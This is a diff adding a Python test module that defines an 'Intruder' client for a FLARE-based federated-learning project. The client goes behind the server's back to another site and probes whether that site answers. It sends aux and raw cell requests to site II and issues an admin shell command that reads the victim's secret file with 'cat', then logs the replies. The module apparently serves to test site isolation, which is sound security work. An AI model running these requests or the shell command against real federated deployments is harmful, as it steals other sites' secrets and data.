@@ -1,0 +1,103 @@
+"""A hospital for tests that asks another one behind the server's back, and writes down the answers.
+
+It takes part in the job as it should. In its first `local_train` it asks site II, in every way that
+FLARE has, and writes what came back to `asked.json` in the runs folder, and to its own log.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import torch
+from nvflare.apis.fl_constant import AdminCommandNames
+from nvflare.apis.shareable import Shareable
+from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
+from nvflare.fuel.f3.message import Message
+from nvflare.private.admin_defs import Message as AdminMessage
+from nvflare.private.defs import SysCommandTopic
+
+from autofedavg.engines.flare import executor as executors
+from autofedavg.engines.flare.codec import as_letter
+from autofedavg.engines.flare.fleet import TOPIC
+from autofedavg.engines.flare.pushing import VERB
+from autofedavg.notes import Note
+
+PATH = "flare_intruder.Intruder"
+VICTIM = "II"
+SECRET = "local/autofedavg-secret.txt"  # in the victim's kit
+
+
+class Intruder(executors.AutoFedAvgExecutor):
+    asked = False
+
+    def _begin(self, fl_ctx) -> None:
+        executors.Door = lambda *_: None  # its own is open: it wants to hear what is said to it
+        super()._begin(fl_ctx)
+
+    def execute(self, task_name, shareable, fl_ctx, abort_signal):
+        answer = super().execute(task_name, shareable, fl_ctx, abort_signal)
+        if task_name == "local_train" and not self.asked:
+            self.asked = True
+            model = {"values": torch.zeros(1636), "counters": torch.zeros(0, dtype=torch.int64)}
+            told = self._letters(model, fl_ctx) | self._requests(fl_ctx)
+            for what, said in told.items():
+                self.log_info(fl_ctx, f"asked {VICTIM} for {what}: {said}")
+            Path(os.environ["AUTOFEDAVG_RUNS"], "asked.json").write_text(json.dumps(told))
+        return answer
+
+    def _letters(self, model, fl_ctx) -> dict[str, str]:
+        notes = {
+            "hello": Note({}, {}),
+            "class_counts": Note({}, {}),
+            "evaluate": Note(model, {"split": "train"}),
+            "local_train": Note(model, {"t": 1, "T": 3}),
+        }
+        told = {}
+        for verb, note in notes.items():
+            (reply,) = (
+                fl_ctx.get_engine()
+                .send_aux_request(
+                    targets=[VICTIM],
+                    topic=TOPIC,
+                    request=_letter(verb, note),
+                    timeout=9,
+                    fl_ctx=fl_ctx,
+                )
+                .values()
+            )
+            told[f"the letter {verb}"] = f"{reply.get_return_code()} {sorted(reply)}"
+        return told
+
+    def _requests(self, fl_ctx) -> dict[str, str]:
+        """Past FLARE's own functions, to the job's process and to the one it is a child of."""
+        cell = fl_ctx.get_engine().get_cell().core_cell
+        worker = f"{VICTIM}.{fl_ctx.get_job_id()}"
+        letter = _letter("hello", Note({}, {}))
+        letter.set_peer_props({"who": "me"})
+        show = AdminMessage(SysCommandTopic.SHELL, f"cat {SECRET}")
+        asks = {
+            "a request": (worker, CellChannel.AUX_COMMUNICATION, TOPIC, letter),
+            "its status": (
+                worker,
+                CellChannel.CLIENT_COMMAND,
+                AdminCommandNames.CHECK_STATUS,
+                Shareable(),
+            ),
+            "its neighbours": (worker, "_net_manager", "peers", None),
+            "a file": (VICTIM, CellChannel.CLIENT_MAIN, show.topic, show),
+        }
+        told = {}
+        for what, (target, channel, topic, payload) in asks.items():
+            reply = cell.send_request(channel, topic, target, Message(payload=payload), timeout=9)
+            code = reply.get_header(MessageHeaderKey.RETURN_CODE)
+            said = getattr(reply.payload, "body", reply.payload)
+            told[what] = f"{code} {reply.get_header(MessageHeaderKey.ERROR)} {said}"
+        return told
+
+
+def _letter(verb: str, note: Note) -> Shareable:
+    message = as_letter(note)
+    message.set_header(VERB, verb)
+    return message
